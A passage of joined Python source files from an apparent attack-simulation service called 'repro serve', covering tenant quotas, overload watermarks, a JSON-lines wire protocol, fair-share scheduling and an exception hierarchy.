                    expired.append(sub)
                    continue
                self._active[rid] = sub
                batch.append((rid, sub, path))
        for sub in expired:
            sub.emit_event("unit-skip",
                           {"unit": sub.rid, "reason": "deadline"})
            sub.complete(SKIPPED, reason="deadline")
        if not batch and self.scheduler.depth() == 0 \
                and self._drain.is_set():
            return None
        for rid, sub, __ in batch:
            sub.emit_event("unit-start", {"unit": rid, "attempt": 0})
        return [(rid, path) for rid, __, path in batch]

    def _feed_rank(self, unit_id, _payload):
        """Pool launch order within a feed batch: priority, then deadline."""
        with self._lock:
            sub = self._active.get(unit_id)
        if sub is None:
            return (0, float("inf"))
        deadline = sub.deadline if sub.deadline is not None \
            else float("inf")
        return (-sub.priority, deadline)

    def _on_retry(self, unit_id, attempt, reason):
        with self._lock:
            sub = self._active.get(unit_id)
        if sub is not None:
            sub.emit_event("retry", {"unit": unit_id,
                                     "attempt": attempt - 1,
                                     "reason": reason})

    def _on_finish(self, unit_id, outcome):
        with self._lock:
            sub = self._active.pop(unit_id, None)
        if sub is None:
            return
        # the pool knows no per-unit deadlines (requests own them), so
        # lateness is stamped here and degrades through the same
        # outcome_result rule the campaign runners use
        if sub.expired():
            outcome.late = True
        result, degraded = outcome_result(unit_id, outcome)
        write_json_atomic(self.result_dir / (sub.rid + ".json"), result)
        self.breakers.backend.record_success()
        if degraded:
            sub.emit_event("degradation",
                           {"unit": unit_id, "reason": "deadline"})
        sub.emit_event("unit-finish",
                       {"unit": unit_id, "attempt": outcome.attempts - 1,
                        "passed": bool(result.get("passed"))})
        sub.complete(DONE, result=result, degraded=result.get("degraded"))

    def _fail_in_flight(self, error):
        """A broken executor fails its in-flight units with typed verdicts."""
        with self._lock:
            active = list(self._active.values())
            self._active.clear()
        for sub in active:
            sub.complete(
                FAILED, error=type(error).__name__,
                message="executor pool broke: {}; resubmit".format(error),
            )
