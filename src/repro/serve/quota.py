"""Per-tenant admission quotas: the service's first line of defense.

A quota bounds what one tenant can hold *concurrently* -- admitted
requests, in-flight units, and how long a deadline it may ask for --
so a poisoned or greedy tenant saturates its own allowance, never the
fabric.  Enforcement happens at admission time: a submit that would
exceed the quota is rejected with a typed
:class:`~repro.errors.QuotaExceeded` before any state changes, which
is what makes rejections cheap, idempotent and safe to retry.

The :class:`QuotaLedger` is the thread-safe scoreboard: ``admit`` is
check-and-charge under one lock (no TOCTOU between the check and the
charge), and every admit is paired with exactly one ``release`` when
the request reaches its terminal outcome -- verdict delivered, stream
dropped, or run interrupted by a drain.
"""

import threading

from repro.errors import QuotaExceeded


class TenantQuota:
    """Admission limits for one tenant (or the default for all).

    ``max_requests`` / ``max_units`` bound concurrently admitted
    requests and in-flight scenario units; ``max_deadline_s`` caps the
    per-request time budget a tenant may ask for (None = no cap) and
    doubles as the default deadline for requests that name none.
    ``weight`` is the tenant's fair-share scheduling weight -- under
    contention, tenants receive executor service proportional to their
    weights (see :mod:`repro.serve.scheduler`); it never affects
    *admission*, only dispatch order.
    """

    __slots__ = ("name", "max_requests", "max_units", "max_deadline_s",
                 "weight")

    def __init__(self, name="default", max_requests=4, max_units=64,
                 max_deadline_s=None, weight=1.0):
        self.name = name
        self.max_requests = max(1, int(max_requests))
        self.max_units = max(1, int(max_units))
        self.max_deadline_s = max_deadline_s
        self.weight = max(0.0, float(weight))

    def as_dict(self):
        return {
            "max_requests": self.max_requests,
            "max_units": self.max_units,
            "max_deadline_s": self.max_deadline_s,
            "weight": self.weight,
        }

    @classmethod
    def from_dict(cls, name, data):
        return cls(
            name,
            max_requests=data.get("max_requests", 4),
            max_units=data.get("max_units", 64),
            max_deadline_s=data.get("max_deadline_s"),
            weight=data.get("weight", 1.0),
        )


class _Usage:
    __slots__ = ("requests", "units", "admitted", "rejected")

    def __init__(self):
        self.requests = 0
        self.units = 0
        #: lifetime counters (health reporting)
        self.admitted = 0
        self.rejected = 0


class QuotaLedger:
    """Thread-safe per-tenant usage scoreboard.

    ``tenants`` maps tenant name -> :class:`TenantQuota` for tenants
    with explicit allowances; everyone else gets ``default``.  The
    ledger never blocks: it admits or raises, immediately.
    """

    def __init__(self, default=None, tenants=None):
        self.default = default or TenantQuota()
        self.tenants = dict(tenants or {})
        self._lock = threading.Lock()
        self._usage = {}

    def quota_for(self, tenant):
        return self.tenants.get(tenant, self.default)

    def admit(self, tenant, units, deadline_s=None):
        """Charge ``tenant`` for one request of ``units`` units.

        Returns the effective deadline (the requested one, or the
        quota's cap when none was requested).  Raises
        :class:`~repro.errors.QuotaExceeded` -- and charges nothing --
        when any limit would be crossed.
        """
        quota = self.quota_for(tenant)
        with self._lock:
            usage = self._usage.setdefault(tenant, _Usage())
            if usage.requests + 1 > quota.max_requests:
                usage.rejected += 1
                raise QuotaExceeded(
                    "tenant {} already holds {} of {} admitted requests"
                    .format(tenant, usage.requests, quota.max_requests),
                    tenant=tenant, quota="requests-in-flight",
                    retry_after_s=1.0,
                )
            if usage.units + units > quota.max_units:
                usage.rejected += 1
                raise QuotaExceeded(
                    "tenant {} holds {} in-flight units; {} more would "
                    "exceed its quota of {}".format(
                        tenant, usage.units, units, quota.max_units),
                    tenant=tenant, quota="units-in-flight",
                    retry_after_s=1.0,
                )
            if deadline_s is not None and quota.max_deadline_s is not None \
                    and deadline_s > quota.max_deadline_s:
                usage.rejected += 1
                raise QuotaExceeded(
                    "tenant {} asked for a {:g}s deadline; its time "
                    "budget caps requests at {:g}s".format(
                        tenant, deadline_s, quota.max_deadline_s),
                    tenant=tenant, quota="deadline",
                )
            usage.requests += 1
            usage.units += units
            usage.admitted += 1
        if deadline_s is None:
            return quota.max_deadline_s
        return deadline_s

    def release(self, tenant, units):
        """Return one request of ``units`` units to the tenant's budget."""
        with self._lock:
            usage = self._usage.get(tenant)
            if usage is None:
                return
            usage.requests = max(0, usage.requests - 1)
            usage.units = max(0, usage.units - units)

    def snapshot(self):
        """Per-tenant usage for health reporting (no locks held after)."""
        with self._lock:
            return {
                tenant: {
                    "requests": usage.requests,
                    "units": usage.units,
                    "admitted": usage.admitted,
                    "rejected": usage.rejected,
                }
                for tenant, usage in sorted(self._usage.items())
            }


def load_tenant_quotas(spec):
    """Build ``(default, tenants)`` from a config mapping.

    ``spec`` maps tenant name -> quota fields; the ``"default"`` entry
    (when present) replaces the built-in default quota.  This is the
    shape ``repro serve --tenants quotas.json`` loads.
    """
    default = TenantQuota()
    tenants = {}
    for name, fields in (spec or {}).items():
        quota = TenantQuota.from_dict(name, fields or {})
        if name == "default":
            default = quota
        else:
            tenants[name] = quota
    return default, tenants
