"""Watermark-based overload degradation for the serve admission ladder.

Quotas bound each tenant and the breaker remembers *failures*, but
neither notices the service simply filling up: a queue near its bound,
a state directory running out of disk, an executor drowning in
in-flight units.  The :class:`OverloadGovernor` watches those three
**watermarks** and moves the service through a three-state ladder:

* **healthy** -- all watermarks below their degraded level; admit
  everything;
* **degraded** -- some watermark crossed its degraded level: shed the
  lowest-priority work (typed ``Overloaded``, ``reason="degraded"``,
  with a ``retry_after_s``) and mark the verdicts of what is still
  admitted with an ``overload`` degrade flag, so clients know their
  results were produced by a service under pressure;
* **shedding** -- some watermark crossed its shedding level: refuse
  every new submit (``reason="shedding"``) until pressure recedes.
  Admitted work is never cancelled -- load shedding is an admission
  policy, not an execution one.

Transitions *up* the ladder are immediate (pressure is load-bearing
the moment it exists); transitions *down* are held back by a
``hold_s`` hysteresis window -- the raw classification must stay below
the current state for the whole window before the governor relaxes.
That keeps one burst from flapping healthy/degraded refusal behavior
at the clients.

Watermarks are :class:`Watermark` objects wrapping an injectable probe
callable, so tests drive transitions with plain numbers and the server
wires real probes (admitted-queue fraction, ``shutil.disk_usage`` on
the state directory, executor backlog depth).  The governor itself
is clock-injectable and lock-free to *read* -- ``evaluate()`` is
called on every admission, so it must stay cheap.
"""

import shutil
import threading
import time

#: overload states, in increasing severity
HEALTHY = "healthy"
DEGRADED = "degraded"
SHEDDING = "shedding"

_SEVERITY = {HEALTHY: 0, DEGRADED: 1, SHEDDING: 2}

#: default hysteresis hold before relaxing to a lower state
DEFAULT_HOLD_S = 2.0

#: default retry hints handed to shed clients, per state
DEFAULT_RETRY_AFTER_S = {DEGRADED: 1.0, SHEDDING: 5.0}

#: submissions below this priority are shed while degraded
DEGRADED_PRIORITY_FLOOR = 1


class Watermark:
    """One watched signal with degraded/shedding thresholds.

    ``probe`` returns the current value; ``direction`` says which side
    of the threshold is trouble: ``"above"`` for load signals (queue
    fraction, in-flight units), ``"below"`` for headroom signals (disk
    free).  A probe that raises is read as "signal unavailable" and
    classifies healthy -- a broken disk probe must not wedge admission.
    """

    __slots__ = ("name", "probe", "degraded_at", "shedding_at",
                 "direction", "last")

    def __init__(self, name, probe, degraded_at, shedding_at,
                 direction="above"):
        if direction not in ("above", "below"):
            raise ValueError(
                "watermark direction must be 'above' or 'below', "
                "not {!r}".format(direction)
            )
        self.name = name
        self.probe = probe
        self.degraded_at = float(degraded_at)
        self.shedding_at = float(shedding_at)
        self.direction = direction
        #: most recent probed value (None until first evaluate)
        self.last = None

    def classify(self):
        """Probe and classify: healthy / degraded / shedding."""
        try:
            value = float(self.probe())
        except Exception:  # noqa: BLE001 -- an unavailable signal is
            self.last = None  # not an overload
            return HEALTHY
        self.last = value
        if self.direction == "above":
            if value >= self.shedding_at:
                return SHEDDING
            if value >= self.degraded_at:
                return DEGRADED
        else:
            if value <= self.shedding_at:
                return SHEDDING
            if value <= self.degraded_at:
                return DEGRADED
        return HEALTHY

    def as_dict(self):
        return {
            "value": None if self.last is None else round(self.last, 4),
            "degraded_at": self.degraded_at,
            "shedding_at": self.shedding_at,
            "direction": self.direction,
        }


def disk_free_mb_probe(directory):
    """A ``Watermark`` probe: free megabytes on ``directory``'s volume."""
    def probe():
        return shutil.disk_usage(str(directory)).free / (1024.0 * 1024.0)
    return probe


class OverloadGovernor:
    """Fold watermark classifications into one hysteresis-damped state.

    ``watermarks`` is a list of :class:`Watermark`; the governor's
    state is the *worst* classification among them, with downward
    transitions delayed by ``hold_s``.  ``retry_after_s`` maps the two
    refusal states to the hint handed to shed clients.
    """

    def __init__(self, watermarks, hold_s=DEFAULT_HOLD_S,
                 retry_after_s=None, clock=None):
        self.watermarks = list(watermarks)
        self.hold_s = float(hold_s)
        self.retry_hints = dict(DEFAULT_RETRY_AFTER_S)
        self.retry_hints.update(retry_after_s or {})
        self._clock = clock or time.monotonic
        self._lock = threading.Lock()
        self._state = HEALTHY
        self._since = self._clock()
        #: first instant the raw classification dropped below _state
        #: (None while raw >= state); downgrades wait out hold_s here
        self._low_since = None
        self._transitions = 0
        #: lifetime shed counters by reason, for status/health
        self.sheds = {DEGRADED: 0, SHEDDING: 0}

    # -- evaluation ------------------------------------------------------------

    def evaluate(self):
        """Probe every watermark and return the (possibly new) state."""
        worst = HEALTHY
        with self._lock:
            for mark in self.watermarks:
                state = mark.classify()
                if _SEVERITY[state] > _SEVERITY[worst]:
                    worst = state
            now = self._clock()
            if _SEVERITY[worst] >= _SEVERITY[self._state]:
                # pressure: escalate (or hold) immediately
                if worst != self._state:
                    self._state = worst
                    self._since = now
                    self._transitions += 1
                self._low_since = None
            else:
                # relief: relax only after hold_s of sustained calm
                if self._low_since is None:
                    self._low_since = now
                elif now - self._low_since >= self.hold_s:
                    self._state = worst
                    self._since = now
                    self._transitions += 1
                    self._low_since = None
            return self._state

    @property
    def state(self):
        with self._lock:
            return self._state

    def note_shed(self, state):
        """Count one refusal issued because of ``state``."""
        with self._lock:
            if state in self.sheds:
                self.sheds[state] += 1

    def retry_after_s(self, state):
        return self.retry_hints.get(state, 1.0)

    # -- introspection ---------------------------------------------------------

    def snapshot(self):
        """The overload document for ``serve status`` and health."""
        with self._lock:
            return {
                "state": self._state,
                "since_s": round(max(0.0, self._clock() - self._since), 3),
                "transitions": self._transitions,
                "hold_s": self.hold_s,
                "sheds": dict(self.sheds),
                "watermarks": {
                    mark.name: mark.as_dict() for mark in self.watermarks
                },
            }


def default_governor(server):
    """The server's standard watermark set.

    * ``queue`` -- admitted units (every kind, plan units included) as
      a fraction of the *configured* global bound ``max_queue``;
    * ``inflight`` -- executor backlog: scenario units queued or
      running, as a fraction of eight times the pool width.  The pool
      itself never holds more than twice its width launched (its feed
      room), so everything past that is scheduler backlog; degraded at
      6x and shedding at 7.6x the pool width means the executor is
      overcommitted by several full refills.  Unlike ``queue`` this
      scales with the deployment's ``--jobs``, not the admission
      config -- a small executor behind a generous ``max_queue``
      degrades here long before the global bound notices;
    * ``disk_free_mb`` -- free space on the state directory's volume.
    """
    backend = server.backend
    backlog_cap = 8.0 * max(1, backend.jobs)
    return OverloadGovernor([
        Watermark("queue",
                  lambda: server.units_admitted() / float(server.max_queue),
                  degraded_at=0.75, shedding_at=0.95),
        Watermark("inflight",
                  lambda: backend.queue_depth() / backlog_cap,
                  degraded_at=0.75, shedding_at=0.95),
        Watermark("disk_free_mb",
                  disk_free_mb_probe(backend.state_dir),
                  degraded_at=256.0, shedding_at=64.0,
                  direction="below"),
    ])
