"""The multi-tenant attack-simulation service (``repro serve``).

A thin, debuggable layer over the campaign fabric: newline-delimited
JSON over a Unix/TCP socket (:mod:`repro.serve.protocol`), per-tenant
admission quotas (:mod:`repro.serve.quota`), circuit breakers
(:mod:`repro.serve.breaker`), watermark-based overload degradation
(:mod:`repro.serve.overload`), per-tenant weighted fair-share
scheduling (:mod:`repro.serve.scheduler`), the execution backend that
reuses the campaign runners verbatim (:mod:`repro.serve.backend`),
the server loop with graceful drain (:mod:`repro.serve.server`), the
blocking client (:mod:`repro.serve.client`) and the sustained-load
soak harness (:mod:`repro.serve.soak`).
"""

from repro.serve.backend import ServeBackend, Submission
from repro.serve.breaker import BreakerBoard, CircuitBreaker
from repro.serve.client import ServeClient
from repro.serve.overload import OverloadGovernor, Watermark
from repro.serve.protocol import PROTO
from repro.serve.quota import QuotaLedger, TenantQuota, load_tenant_quotas
from repro.serve.scheduler import FairShareScheduler
from repro.serve.server import ServeServer

__all__ = [
    "PROTO",
    "BreakerBoard",
    "CircuitBreaker",
    "FairShareScheduler",
    "OverloadGovernor",
    "QuotaLedger",
    "ServeBackend",
    "ServeClient",
    "ServeServer",
    "Submission",
    "TenantQuota",
    "Watermark",
    "load_tenant_quotas",
]
