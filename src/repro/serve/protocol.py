"""The ``repro-serve/v1`` wire protocol: newline-delimited JSON.

One message per line, UTF-8, ``\\n``-terminated; both directions.  The
protocol is deliberately dumb -- no framing beyond the newline, no
compression, no multiplexing windows -- because every robustness
property the service needs lives *above* it (admission control,
quotas, write timeouts) and a protocol a shell script can speak is a
protocol an operator can debug at 3am with ``nc -U``.

Client -> server message types:

* ``hello``   -- open a session: ``{"type": "hello", "tenant": "a"}``;
* ``submit``  -- request work: an inline ``scenario`` spec *or* a
  ``plan`` block naming a scenario directory to run as a sharded
  campaign, plus an optional ``deadline_s`` time budget and an
  optional integer ``priority`` (default 1; under a *degraded*
  server, work below the priority floor is shed first, and within
  one feed batch higher priorities launch first);
* ``health``  -- liveness/readiness probe (allowed before ``hello``);
* ``status``  -- deep introspection: scheduler fairness evidence,
  overload watermark readings, breakers (allowed before ``hello``);
* ``drain``   -- ask the server to drain gracefully (supervision);
* ``bye``     -- close the session.

Server -> client: ``welcome``, ``accepted`` / ``rejected`` (typed,
with the admission verdict), ``event`` (unit progress), ``verdict``
(terminal, one per accepted submit), ``health``, ``status``,
``draining`` / ``drained``, and ``error`` for protocol misuse.

:func:`parse_line` and :func:`validate_client` raise
:class:`~repro.errors.ProtocolError` -- the server maps that onto an
``error`` message rather than dropping the connection, so a buggy
client learns what it sent wrong.
"""

import json
import re

from repro.errors import ProtocolError

#: protocol identifier, carried in hello/welcome
PROTO = "repro-serve/v1"

#: hard cap on one serialized message line (a poisoned tenant must not
#: be able to balloon server memory with one unbounded line)
MAX_LINE_BYTES = 4 * 1024 * 1024

#: request ids become file names under the service state directory
_REQUEST_ID = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$")
#: tenant names namespace request ids and quota ledgers
_TENANT = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]{0,31}$")

#: message types a client may send
CLIENT_TYPES = ("hello", "submit", "health", "status", "drain", "bye")

#: accepted submit priority range (small on purpose: priority is a
#: shedding class, not a fine-grained ranking)
PRIORITY_MIN = -10
PRIORITY_MAX = 10


def encode(message):
    """Serialize one message to its wire line (bytes, ``\\n`` included)."""
    line = json.dumps(message, sort_keys=True, separators=(",", ":"))
    data = line.encode("utf-8") + b"\n"
    if len(data) > MAX_LINE_BYTES:
        raise ProtocolError(
            "message of {} bytes exceeds the {} byte line cap".format(
                len(data), MAX_LINE_BYTES
            )
        )
    return data


def parse_line(line):
    """Decode one wire line into a message dict (typed errors)."""
    if len(line) > MAX_LINE_BYTES:
        raise ProtocolError(
            "line of {} bytes exceeds the {} byte cap".format(
                len(line), MAX_LINE_BYTES
            )
        )
    try:
        message = json.loads(line.decode("utf-8"))
    except (UnicodeDecodeError, json.JSONDecodeError) as error:
        raise ProtocolError(
            "unparseable message ({})".format(type(error).__name__)
        ) from error
    if not isinstance(message, dict) or "type" not in message:
        raise ProtocolError("a message must be an object with a 'type'")
    return message


def validate_client(message):
    """Validate a client message's shape; returns the message.

    Shape only -- admission (quota, queue room, breaker state) is the
    server's call.  Raises :class:`ProtocolError` on anything a
    conforming client would never send.
    """
    kind = message.get("type")
    if kind not in CLIENT_TYPES:
        raise ProtocolError("unknown message type {!r}".format(kind))
    if kind == "hello":
        tenant = message.get("tenant")
        if not isinstance(tenant, str) or not _TENANT.match(tenant):
            raise ProtocolError(
                "hello needs a tenant matching {}".format(_TENANT.pattern)
            )
        proto = message.get("proto", PROTO)
        if proto != PROTO:
            raise ProtocolError(
                "unsupported protocol {!r} (this server speaks {})".format(
                    proto, PROTO
                )
            )
    elif kind == "submit":
        request_id = message.get("id")
        if not isinstance(request_id, str) \
                or not _REQUEST_ID.match(request_id):
            raise ProtocolError(
                "submit needs an id matching {}".format(_REQUEST_ID.pattern)
            )
        scenario = message.get("scenario")
        plan = message.get("plan")
        if (scenario is None) == (plan is None):
            raise ProtocolError(
                "submit needs exactly one of 'scenario' or 'plan'"
            )
        if scenario is not None and not isinstance(scenario, dict):
            raise ProtocolError("'scenario' must be an inline spec object")
        if plan is not None:
            if not isinstance(plan, dict) \
                    or not isinstance(plan.get("directory"), str):
                raise ProtocolError(
                    "'plan' must be an object naming a 'directory'"
                )
        deadline_s = message.get("deadline_s")
        if deadline_s is not None:
            if not isinstance(deadline_s, (int, float)) \
                    or isinstance(deadline_s, bool) or deadline_s <= 0:
                raise ProtocolError("'deadline_s' must be a positive number")
        priority = message.get("priority")
        if priority is not None:
            if not isinstance(priority, int) or isinstance(priority, bool) \
                    or not PRIORITY_MIN <= priority <= PRIORITY_MAX:
                raise ProtocolError(
                    "'priority' must be an integer in [{}, {}]".format(
                        PRIORITY_MIN, PRIORITY_MAX
                    )
                )
    return message


# -- server-side message builders ----------------------------------------------


def welcome(server_meta):
    reply = {"type": "welcome", "proto": PROTO}
    reply.update(server_meta)
    return reply


def accepted(request_id, queue_depth, degrade=None):
    message = {"type": "accepted", "id": request_id,
               "queue_depth": queue_depth}
    if degrade:
        message["degrade"] = degrade
    return message


def rejected(request_id, error):
    """Map a typed admission error onto the wire (rejection, not crash)."""
    message = {
        "type": "rejected",
        "id": request_id,
        "error": type(error).__name__,
        "message": str(error),
    }
    for field in ("tenant", "quota", "reason", "retry_after_s"):
        value = getattr(error, field, None)
        if value is not None:
            message[field] = value
    return message


def event(request_id, kind, **fields):
    message = {"type": "event", "id": request_id, "kind": kind}
    message.update(fields)
    return message


def verdict(request_id, status, **fields):
    message = {"type": "verdict", "id": request_id, "status": status}
    message.update(fields)
    return message


def error(message_text):
    return {"type": "error", "error": "ProtocolError",
            "message": message_text}
