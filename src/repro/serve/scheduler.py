"""Per-tenant weighted fair-share scheduling for the serve backend.

Admission quotas bound what a tenant may *hold*; they say nothing about
the order admitted work reaches the executor pool.  With a plain FIFO
feed one admitted flood tenant parks a wall of units in front of
everyone else's, and a trickle tenant -- well inside its quota -- waits
behind the whole wall.  :class:`FairShareScheduler` replaces the FIFO
with three guarantees:

* **weighted fair share across tenants** -- deficit round-robin: each
  visit of the rotation grants a tenant ``quantum * weight`` credit,
  and the tenant dispatches queued units while its deficit covers their
  cost.  Over any saturated window, tenants receive service
  proportional to their configured weights, independent of how many
  units each has queued;
* **deadline-aware ordering within a tenant** -- a tenant's own queue
  dispatches its deadline-carrying units earliest-deadline-first, ahead
  of its no-deadline units (which stay FIFO among themselves).  One
  tenant's deadlines never reorder another tenant's units;
* **aging** -- the globally oldest queued unit is dispatched out of
  turn once it has waited ``aging_s``, so even a weight-starved tenant
  makes progress: starvation is bounded by the aging horizon, whatever
  the weights say.

``mode="fifo"`` disables all three (one global arrival-order queue) and
exists as the control arm for the scheduling-cost benchmark and as an
escape hatch (``repro serve --fifo``).

The scheduler also keeps the evidence that fairness actually happened:
per-tenant dispatch counts and a bounded ring of recent queue-wait
samples, surfaced through :meth:`snapshot` into ``repro serve status``,
the soak harness's starvation assertions, and ``BENCH_serve.json``.

Thread safety: every public method takes the internal lock; callers
(the backend's feed, the server's status handler) need no external
synchronization.
"""

import bisect
import collections
import threading
import time

#: scheduling modes
FAIR = "fair"
FIFO = "fifo"

#: default credit granted per rotation visit, in unit-cost units
DEFAULT_QUANTUM = 4.0

#: default seconds a queued item may wait before aging overrides DRR
DEFAULT_AGING_S = 30.0

#: recent queue-wait samples retained per tenant for percentiles
WAIT_WINDOW = 256


def percentile(values, fraction):
    """Nearest-rank percentile of ``values`` (0 when empty)."""
    if not values:
        return 0.0
    ordered = sorted(values)
    index = min(len(ordered) - 1,
                int(round(fraction * (len(ordered) - 1))))
    return ordered[index]


class _Item:
    __slots__ = ("tenant", "key", "payload", "deadline", "cost",
                 "enqueued_at", "seq", "removed")

    def __init__(self, tenant, key, payload, deadline, cost,
                 enqueued_at, seq):
        self.tenant = tenant
        self.key = key
        self.payload = payload
        self.deadline = deadline
        self.cost = cost
        self.enqueued_at = enqueued_at
        self.seq = seq
        #: lazy-deletion marker for the arrival deque
        self.removed = False

    def order(self):
        """Within-tenant dispatch order: EDF first, then arrival."""
        if self.deadline is None:
            return (1, 0.0, self.seq)
        return (0, self.deadline, self.seq)


class _TenantQueue:
    __slots__ = ("tenant", "weight", "items", "arrivals", "deficit",
                 "dispatched", "waits")

    def __init__(self, tenant, weight):
        self.tenant = tenant
        self.weight = max(0.0, float(weight))
        #: kept sorted by _Item.order(); insertion is a bisect
        self.items = []
        #: the same items in arrival order (the clock is monotonic, so
        #: push order is age order); dispatch/discard mark ``removed``
        #: and the head is cleaned lazily -- this is what keeps the
        #: global oldest-item lookup a per-tenant head comparison
        #: instead of a full scan on every dispatch
        self.arrivals = collections.deque()
        self.deficit = 0.0
        #: lifetime dispatch count (fairness evidence)
        self.dispatched = 0
        #: ring of recent queue-wait seconds (percentile evidence)
        self.waits = []

    def push(self, item):
        keys = [entry.order() for entry in self.items]
        self.items.insert(bisect.bisect_right(keys, item.order()), item)
        self.arrivals.append(item)

    def remove(self, item):
        self.items.remove(item)
        item.removed = True

    def oldest(self):
        """The tenant's oldest queued item (None when drained)."""
        while self.arrivals and self.arrivals[0].removed:
            self.arrivals.popleft()
        return self.arrivals[0] if self.arrivals else None

    def note_wait(self, wait_s):
        self.waits.append(wait_s)
        if len(self.waits) > WAIT_WINDOW:
            del self.waits[: len(self.waits) - WAIT_WINDOW]


class FairShareScheduler:
    """Deficit round-robin over per-tenant queues, with aging.

    ``weight_of`` maps a tenant name to its fair-share weight (a
    callable, so weights can live in the tenant quota config); tenants
    it does not know default to ``default_weight``.  ``quantum`` is the
    credit granted per rotation visit, ``aging_s`` the wait after which
    the oldest queued item is dispatched out of turn, and ``clock`` is
    injectable for the starvation tests.
    """

    def __init__(self, weight_of=None, default_weight=1.0,
                 quantum=DEFAULT_QUANTUM, aging_s=DEFAULT_AGING_S,
                 mode=FAIR, clock=None):
        if mode not in (FAIR, FIFO):
            raise ValueError("unknown scheduler mode {!r}".format(mode))
        self.weight_of = weight_of
        self.default_weight = float(default_weight)
        self.quantum = float(quantum)
        self.aging_s = float(aging_s)
        self.mode = mode
        self._clock = clock or time.monotonic
        self._lock = threading.Lock()
        self._tenants = {}
        #: round-robin rotation of tenant names with queued work
        self._rotation = []
        self._rotation_at = 0
        #: has the queue at _rotation_at received this visit's credit?
        self._granted = False
        self._depth = 0
        self._seq = 0
        self._aged_dispatches = 0
        #: waits observed since start, for the global histogram hook
        self.on_wait = None

    # -- intake ----------------------------------------------------------------

    def _tenant(self, tenant):
        queue = self._tenants.get(tenant)
        if queue is None:
            weight = self.default_weight
            if self.weight_of is not None:
                try:
                    weight = float(self.weight_of(tenant))
                except (TypeError, ValueError):
                    weight = self.default_weight
            queue = self._tenants[tenant] = _TenantQueue(tenant, weight)
        return queue

    def push(self, tenant, key, payload, deadline=None, cost=1.0):
        """Queue one unit of work for ``tenant``.

        ``key`` identifies the unit (the backend's request id);
        ``deadline`` is an absolute ``time.monotonic`` value or None;
        ``cost`` is the unit's weight against the tenant's deficit
        (scenario units cost 1).
        """
        with self._lock:
            queue = self._tenant(tenant)
            self._seq += 1
            item = _Item(tenant, key, payload, deadline, float(cost),
                         self._clock(), self._seq)
            queue.push(item)
            if tenant not in self._rotation:
                self._rotation.append(tenant)
            self._depth += 1

    # -- dispatch --------------------------------------------------------------

    def take(self, room):
        """Dispatch up to ``room`` units in fair-share order.

        Returns a list of ``(tenant, key, payload)`` triples.  FIFO
        mode returns strict arrival order; fair mode runs the aging
        check first, then the deficit rotation.
        """
        if room <= 0:
            return []
        taken = []
        with self._lock:
            now = self._clock()
            while len(taken) < room and self._depth > 0:
                item = self._next_item(now)
                if item is None:
                    break
                taken.append((item.tenant, item.key, item.payload))
                self._account(item, now)
        return taken

    def _next_item(self, now):
        if self.mode == FIFO:
            oldest = self._oldest_item()
            return oldest
        aged = self._oldest_item()
        if aged is not None \
                and now - aged.enqueued_at >= self.aging_s:
            self._aged_dispatches += 1
            return aged
        # deficit round-robin over the active rotation: credit is
        # granted exactly once per arrival at a queue (the _granted
        # flag survives across take() calls so a tenant mid-burst is
        # not re-credited), and a tiny weight may need several full
        # passes to accumulate one unit of credit, so visits are
        # bounded rather than single-pass
        visits = 64 * max(1, len(self._rotation))
        for __ in range(visits):
            if not self._rotation:
                break
            if self._rotation_at >= len(self._rotation):
                self._rotation_at = 0
            tenant = self._rotation[self._rotation_at]
            queue = self._tenants[tenant]
            if not queue.items:
                # drained since its last visit: drop from the rotation
                self._rotation.pop(self._rotation_at)
                queue.deficit = 0.0
                self._granted = False
                continue
            if not self._granted:
                queue.deficit += self.quantum * queue.weight
                self._granted = True
            if queue.deficit >= queue.items[0].cost:
                return queue.items[0]
            self._rotation_at += 1
            self._granted = False
        # only zero/degenerate weights remain below cost after the
        # bounded passes: force progress through the oldest item
        return self._oldest_item()

    def _oldest_item(self):
        # compare per-tenant arrival heads: O(tenants) per dispatch,
        # not O(queued items) -- a FIFO burst must not go quadratic
        oldest = None
        for queue in self._tenants.values():
            item = queue.oldest()
            if item is None:
                continue
            if oldest is None \
                    or (item.enqueued_at, item.seq) \
                    < (oldest.enqueued_at, oldest.seq):
                oldest = item
        return oldest

    def _account(self, item, now):
        queue = self._tenants[item.tenant]
        queue.remove(item)
        queue.deficit = max(0.0, queue.deficit - item.cost)
        if not queue.items:
            queue.deficit = 0.0
        queue.dispatched += 1
        wait_s = max(0.0, now - item.enqueued_at)
        queue.note_wait(wait_s)
        self._depth -= 1
        if self.on_wait is not None:
            try:
                self.on_wait(item.tenant, wait_s)
            except Exception:  # noqa: BLE001 -- an observer must never
                pass           # stall dispatch

    # -- removal / inspection --------------------------------------------------

    def discard(self, key):
        """Drop the queued unit with ``key`` (False when not queued)."""
        with self._lock:
            for queue in self._tenants.values():
                for item in queue.items:
                    if item.key == key:
                        queue.remove(item)
                        self._depth -= 1
                        return True
        return False

    def queued(self, key):
        """Is a unit with ``key`` still waiting for dispatch?"""
        with self._lock:
            return any(item.key == key
                       for queue in self._tenants.values()
                       for item in queue.items)

    def depth(self):
        with self._lock:
            return self._depth

    def oldest_wait_s(self):
        """Age of the oldest queued unit (0 when empty)."""
        with self._lock:
            oldest = self._oldest_item()
            if oldest is None:
                return 0.0
            return max(0.0, self._clock() - oldest.enqueued_at)

    def snapshot(self):
        """Deterministically-ordered fairness evidence for ``status``."""
        with self._lock:
            now = self._clock()
            tenants = {}
            for name in sorted(self._tenants):
                queue = self._tenants[name]
                if not queue.items and not queue.dispatched:
                    continue
                entry = {
                    "queued": len(queue.items),
                    "weight": queue.weight,
                    "dispatched": queue.dispatched,
                    "p50_wait_ms": round(
                        percentile(queue.waits, 0.50) * 1000.0, 3),
                    "p99_wait_ms": round(
                        percentile(queue.waits, 0.99) * 1000.0, 3),
                }
                head = queue.oldest()
                if head is not None:
                    entry["oldest_wait_s"] = round(
                        max(0.0, now - head.enqueued_at), 3)
                tenants[name] = entry
            oldest = self._oldest_item()
            return {
                "mode": self.mode,
                "depth": self._depth,
                "quantum": self.quantum,
                "aging_s": self.aging_s,
                "aged_dispatches": self._aged_dispatches,
                "oldest_wait_s": 0.0 if oldest is None else round(
                    max(0.0, now - oldest.enqueued_at), 3),
                "tenants": tenants,
            }
