"""Exception hierarchy for the repro package."""


class ReproError(Exception):
    """Base class for all errors raised by this package."""


class AddressError(ReproError):
    """A virtual or physical address is malformed (non-canonical, unaligned...)."""


class MappingError(ReproError):
    """A page-table mapping operation is invalid (overlap, missing page...)."""


class PageFault(ReproError):
    """Architectural #PF raised by an unsuppressed faulting access.

